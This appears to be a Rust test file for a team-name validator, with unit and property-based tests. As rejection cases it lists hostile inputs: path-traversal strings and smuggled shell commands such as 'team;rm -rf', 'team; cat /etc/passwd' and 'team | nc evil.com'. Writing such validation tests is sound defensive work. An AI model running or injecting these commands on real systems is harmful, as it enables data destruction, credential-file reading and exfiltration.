use proptest::prelude::*;

use super::*;

fn err(name: &str) -> TeamNameError {
    match TeamName::new(name) {
        Ok(ok) => panic!("{name:?} should be rejected, got {ok}"),
        Err(e) => e,
    }
}

#[test]
fn accepts_the_originals_valid_names() {
    for name in [
        "team-alpha",
        "team_beta",
        "my-team-123",
        "frontend",
        "backend-api",
        "team@example.com",
        "service.v2",
        "team@example",
        "team-iris",
    ] {
        let team = TeamName::new(name).unwrap_or_else(|e| panic!("{name}: {e}"));
        assert_eq!(team.as_str(), name);
    }
}

#[test]
fn empty_name_is_rejected() {
    assert_eq!(err(""), TeamNameError::Empty);
    assert!(err("").to_string().contains("cannot be empty"));
}

#[test]
fn exactly_100_characters_is_allowed_and_101_is_not() {
    assert!(TeamName::new("a".repeat(100)).is_ok());
    let e = err(&"a".repeat(101));
    assert!(matches!(e, TeamNameError::TooLong { len: 101, .. }), "{e}");
    assert!(e.to_string().contains("maximum is 100"));
}

#[test]
fn the_originals_dangerous_names_are_rejected_as_dangerous() {
    for name in [
        "team/../admin",
        "team..\\windows",
        "team\0null",
        "team|pipe",
        "team&command",
        "team;semicolon",
        "team$variable",
        "team`backtick",
        "../../../etc",
        "team/../../passwd",
        "team;rm -rf",
        "team; cat /etc/passwd",
        "team && echo bad",
        "team | nc evil.com",
    ] {
        let e = err(name);
        assert!(
            matches!(e, TeamNameError::Dangerous { .. }),
            "{name:?}: {e}"
        );
        assert!(e.to_string().contains("dangerous"), "{e}");
    }
}

#[test]
fn the_originals_invalid_names_are_rejected_as_invalid_characters() {
    for name in [
        "team name",
        "team/slash",
        "team\\backslash",
        "team:colon",
        "team*asterisk",
        "team?question",
        "team<bracket>",
    ] {
        let e = err(name);
        assert!(
            matches!(e, TeamNameError::InvalidCharacter { .. }),
            "{name:?}: {e}"
        );
        assert!(
            e.to_string().contains(&format!("{name:?}")),
            "message names the input: {e}"
        );
    }
}

#[test]
fn fixes_original_gap_dot_and_dotdot_are_rejected() {
    assert!(matches!(err("."), TeamNameError::DotName { .. }));
    assert!(matches!(err(".."), TeamNameError::DotName { .. }));
}

#[test]
fn fixes_original_gap_leading_dash_or_dot_is_rejected() {
    assert!(matches!(
        err("-rf"),
        TeamNameError::BadFirstCharacter { ch: '-', .. }
    ));
    assert!(matches!(
        err(".hidden"),
        TeamNameError::BadFirstCharacter { ch: '.', .. }
    ));
    // Inner dots and dashes stay legal, as in the original.
    assert!(TeamName::new("a..b").is_ok());
    assert!(TeamName::new("a-b.c").is_ok());
}

#[test]
fn deserializing_validates() {
    let ok: Result<TeamName, _> = serde_json::from_str("\"alpha\"");
    assert!(ok.is_ok());
    let bad: Result<TeamName, _> = serde_json::from_str("\"-rf\"");
    assert!(bad.is_err());
}

proptest! {
    #[test]
    fn parsing_never_panics(s in any::<String>()) {
        let _ = TeamName::new(s);
    }

    #[test]
    fn valid_names_round_trip(s in "[A-Za-z0-9_@][A-Za-z0-9_@.\\-]{0,99}") {
        let name = TeamName::new(s.clone()).map_err(|e| TestCaseError::fail(e.to_string()))?;
        prop_assert_eq!(name.as_str(), s.as_str());
        let reparsed: TeamName = name.to_string().parse().map_err(|e: TeamNameError| TestCaseError::fail(e.to_string()))?;
        prop_assert_eq!(&reparsed, &name);
        let json = serde_json::to_string(&name).map_err(|e| TestCaseError::fail(e.to_string()))?;
        let back: TeamName = serde_json::from_str(&json).map_err(|e| TestCaseError::fail(e.to_string()))?;
        prop_assert_eq!(back, name);
    }

    #[test]
    fn accepted_names_obey_every_rule(s in "[ -~]{0,110}") {
        if let Ok(name) = TeamName::new(s) {
            let n = name.as_str();
            prop_assert!(!n.is_empty() && n.len() <= MAX_TEAM_NAME_LEN);
            prop_assert!(n.chars().all(is_allowed));
            prop_assert!(!n.starts_with('-') && !n.starts_with('.'));
            prop_assert!(!n.contains("../"));
        }
    }
}
